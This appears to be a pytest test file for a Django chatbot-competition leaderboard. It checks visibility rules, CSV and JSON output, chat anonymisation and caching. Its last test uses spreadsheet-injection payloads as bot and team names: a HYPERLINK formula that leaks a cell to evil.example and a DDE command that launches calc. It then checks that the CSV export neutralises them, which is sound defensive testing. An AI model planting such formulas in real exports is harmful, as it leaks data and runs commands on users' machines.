"""Leaderboard pages, CSV and API: visibility, content, the SVG chart."""

import csv
import io

import pytest
from django.urls import reverse
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from chat.models import Conversation
from competitions.models import BotCall, Competition
from leaderboard.services import competition_recompute
from tests.factories import BotFactory, ConversationFactory, MessageFactory, TeamMembershipFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def computed(scenario):
    competition_recompute(competition_id=scenario.competition.pk)
    return scenario


def set_phase(competition, phase, *, public=False):
    competition.phase = phase
    competition.leaderboard_public_during_evaluation = public
    competition.save(update_fields=["phase", "leaderboard_public_during_evaluation"])


VISIBILITY = [
    # phase, public during evaluation, anonymous status, participant status, organizer status
    ("draft", True, 404, 404, 200),
    ("registration", False, 403, 403, 200),
    ("evaluation", False, 403, 403, 200),
    ("evaluation", True, 200, 200, 200),
    ("closed", False, 200, 200, 200),
]


@pytest.mark.parametrize(("phase", "public", "anonymous", "member", "staff"), VISIBILITY)
def test_leaderboard_page_visibility(
    client, competition, participant, organizer, phase, public, anonymous, member, staff
):
    set_phase(competition, phase, public=public)
    url = reverse("leaderboard", kwargs={"slug": competition.slug})

    assert client.get(url).status_code == anonymous
    client.force_login(participant)
    assert client.get(url).status_code == member
    client.force_login(organizer)
    assert client.get(url).status_code == staff


@pytest.mark.parametrize(("phase", "public", "anonymous", "member", "staff"), VISIBILITY)
def test_api_and_csv_follow_the_same_visibility(
    client, competition, participant, organizer, phase, public, anonymous, member, staff
):
    set_phase(competition, phase, public=public)
    api_url = reverse("api-leaderboard", kwargs={"slug": competition.slug})
    csv_url = reverse("leaderboard-csv", kwargs={"slug": competition.slug})
    api = APIClient()

    assert api.get(api_url).status_code == anonymous
    assert client.get(csv_url).status_code == anonymous
    token = Token.objects.create(user=participant)
    api.credentials(HTTP_AUTHORIZATION=f"Token {token.key}")
    assert api.get(api_url).status_code == member
    client.force_login(organizer)
    assert client.get(csv_url).status_code == staff


def test_page_shows_ranks_intervals_baseline_exclusions_and_the_chart(client, computed):
    set_phase(computed.competition, "closed")

    response = client.get(reverse("leaderboard", kwargs={"slug": computed.competition.slug}))

    html = response.content.decode()
    assert response.status_code == 200
    assert html.count('class="lb-point"') == 3
    assert '<svg class="lb-chart"' in html
    assert 'class="lb-baseline"' in html
    assert "90.0%" in html and "80.0%" in html  # alice and the human baseline
    assert "Human-likeness" in html
    assert "2 judgments by excluded evaluators" in html
    assert "1 judgment of a chat shorter than 4 messages" in html
    assert "2 chats ended because the bot failed" in html
    assert html.index(">alice") < html.index(">bob") < html.index(">eliza")
    assert "Krippendorff" not in html  # an alpha over bots measured how far apart they are, not agreement
    assert "Distinguishable from humans" in html  # bob, 10% against 80%
    assert '20 <span class="muted">/ 4</span>' in html  # n judgments / n evaluators


def test_page_without_computation_says_so(client, competition):
    set_phase(competition, "closed")
    response = client.get(reverse("leaderboard", kwargs={"slug": competition.slug}))
    assert "No scores have been computed yet." in response.content.decode()


def test_page_renders_in_korean(client, computed):
    set_phase(computed.competition, "closed")
    response = client.get(reverse("leaderboard", kwargs={"slug": computed.competition.slug}), HTTP_ACCEPT_LANGUAGE="ko")
    assert response.status_code == 200
    assert response.headers["Content-Language"] == "ko"


def test_csv_has_one_row_per_bot_with_intervals_and_criteria(client, computed):
    set_phase(computed.competition, "closed")

    response = client.get(reverse("leaderboard-csv", kwargs={"slug": computed.competition.slug}))

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert response["Content-Type"].startswith("text/csv")
    assert [row["bot_name"] for row in rows] == ["alice", "bob", "eliza"]
    alice = rows[0]
    assert (alice["rank"], alice["judgments"], float(alice["pass_rate"])) == ("1", "20", 0.9)
    assert float(alice["pass_low"]) == pytest.approx(0.6989664, abs=1e-6)
    assert rows[2]["rank"] == "" and rows[2]["is_baseline"] == "True"
    assert (alice["evaluators"], rows[1]["verdict"]) == ("4", "distinguishable")
    assert float(alice["human_likeness_mean"]) > 0


def test_json_carries_rows_and_snapshot(computed):
    set_phase(computed.competition, "closed")

    data = APIClient().get(reverse("api-leaderboard", kwargs={"slug": computed.competition.slug})).json()

    assert data["competition"] == computed.competition.slug
    assert [row["bot_name"] for row in data["rows"]] == ["alice", "bob", "eliza"]
    assert data["rows"][0]["rank"] == 1 and data["rows"][1]["rank"] == 2
    assert data["rows"][0]["pass_low"] == pytest.approx(0.6989664, abs=1e-6)
    assert [c["key"] for c in data["rows"][0]["criteria"]] == computed.competition.criteria_keys
    assert data["snapshot"]["baseline_rate"] == pytest.approx(0.8)
    assert data["snapshot"]["excluded_judgments"] == 4
    assert "alpha" not in data["snapshot"]
    assert data["snapshot"]["baseline_evaluators"] == 4
    assert data["rows"][1]["verdict"] == "distinguishable" and data["rows"][1]["difference"] == pytest.approx(-0.7)


def bot_url(bot, name="leaderboard-bot"):
    return reverse(name, kwargs={"slug": bot.competition.slug, "bot_id": bot.pk})


def test_bot_page_is_for_its_team_and_organizers(client, computed, participant, organizer):
    stranger = UserFactory(username="stranger")
    url = bot_url(computed.alice)

    assert client.get(url).status_code == 302
    client.force_login(stranger)
    assert client.get(url).status_code == 403
    client.force_login(participant)
    assert client.get(url).status_code == 200
    client.force_login(organizer)
    assert client.get(url).status_code == 200


def test_bot_page_shows_criteria_and_days(client, computed, participant):
    client.force_login(participant)
    html = client.get(bot_url(computed.alice)).content.decode()
    assert "Human-likeness" in html
    assert computed.day_one.strftime("%Y-%m-%d") in html
    assert "250 ms" in html
    assert "n = 20 / 4" in html  # judgments / evaluators
    assert "+10.0" in html  # alice 90% against the baseline's 80%


def test_example_chats_only_when_allowed_and_anonymised(client, computed, participant):
    chat = ConversationFactory(
        competition=computed.competition,
        bot=computed.alice,
        evaluator_a=computed.evaluators[0],
        status=Conversation.Status.ENDED,
        alias_a="Guest 7",
        alias_b="River",
    )
    MessageFactory(
        conversation=chat,
        seq=1,
        side="a",
        text="my number is qzx-secret-4711",
        delivered_text="my number is ***",
        flagged=True,
        author=computed.evaluators[0],
    )
    MessageFactory(conversation=chat, seq=2, side="b", text="nice to meet you", delivered_text="nice to meet you")
    client.force_login(participant)

    assert "my number is ***" not in client.get(bot_url(computed.alice)).content.decode()

    Competition.objects.filter(pk=computed.competition.pk).update(show_example_chats_to_teams=True)
    html = client.get(bot_url(computed.alice)).content.decode()
    assert "my number is ***" in html and "Guest 7" in html and "River" in html
    # A distinctive secret: "555" alone also turned up in the page's timestamps (microseconds), now and then.
    assert "qzx-secret" not in html
    assert computed.evaluators[0].username not in html


def test_bot_scores_api_for_team_token(computed, participant):
    api = APIClient()
    assert api.get(bot_url(computed.alice, "api-leaderboard-bot")).status_code in (401, 403)
    other = TeamMembershipFactory().user
    api.force_authenticate(other)
    assert api.get(bot_url(computed.alice, "api-leaderboard-bot")).status_code == 403
    api.force_authenticate(participant)
    data = api.get(bot_url(computed.alice, "api-leaderboard-bot")).json()
    assert data["row"]["judgments"] == 20
    assert [d["judgments"] for d in data["daily"]] == [10, 10]


def test_evaluators_page_is_for_organizers(client, computed, participant, organizer):
    url = reverse("leaderboard-evaluators", kwargs={"slug": computed.competition.slug})
    client.force_login(participant)
    assert client.get(url).status_code == 403
    client.force_login(organizer)
    html = client.get(url).content.decode()
    assert "judge0" in html and "Suspended" in html


def test_page_reads_stored_rows_with_a_constant_number_of_queries(client, computed, django_assert_max_num_queries):
    set_phase(computed.competition, "closed")
    for index in range(30):
        extra = BotFactory(competition=computed.competition, name=f"extra-{index:02d}")
        BotCall.objects.create(bot=extra, purpose=BotCall.Purpose.HEALTH, ok=True)
    competition_recompute(competition_id=computed.competition.pk)
    url = reverse("leaderboard", kwargs={"slug": computed.competition.slug})

    with django_assert_max_num_queries(3):  # the competition with its snapshot, the rows, the bots checked healthy
        first = client.get(url)
    with django_assert_max_num_queries(1):  # the cached chart and table: only the competition with its snapshot
        second = client.get(url)

    def board(response):
        html = response.content.decode()
        return html[html.index('<figure class="lb-figure">') : html.index("</table>")]

    assert board(first) == board(second)
    assert board(first).count('<th scope="row">extra-') == 30


def test_a_recompute_replaces_the_cached_table(client, computed):
    set_phase(computed.competition, "closed")
    url = reverse("leaderboard", kwargs={"slug": computed.competition.slug})
    assert "newcomer" not in client.get(url).content.decode()

    newcomer = BotFactory(competition=computed.competition, name="newcomer")
    BotCall.objects.create(bot=newcomer, purpose=BotCall.Purpose.HEALTH, ok=True)
    assert "newcomer" not in client.get(url).content.decode()  # still the stored figures
    competition_recompute(competition_id=computed.competition.pk)

    assert "newcomer" in client.get(url).content.decode()


def test_cached_table_keeps_team_links_per_viewer(client, computed, participant):
    set_phase(computed.competition, "closed")
    url = reverse("leaderboard", kwargs={"slug": computed.competition.slug})
    alice_link = bot_url(computed.alice)

    assert alice_link not in client.get(url).content.decode()
    client.force_login(participant)
    assert alice_link in client.get(url).content.decode()
    client.logout()
    assert alice_link not in client.get(url).content.decode()


def test_csv_neutralises_formulas_in_team_chosen_names(client, computed):
    set_phase(computed.competition, "closed")
    bot = computed.competition.bots.get(name="alice")
    bot.name = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
    bot.save(update_fields=["name"])
    bot.team.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    bot.team.save(update_fields=["name"])
    competition_recompute(competition_id=computed.competition.pk)

    response = client.get(reverse("leaderboard-csv", kwargs={"slug": computed.competition.slug}))

    first = next(csv.DictReader(io.StringIO(response.content.decode())))
    assert first["bot_name"] == "'" + bot.name
    assert first["team_name"] == "'" + bot.team.name
    assert first["rank"] == "1"  # numbers stay numbers
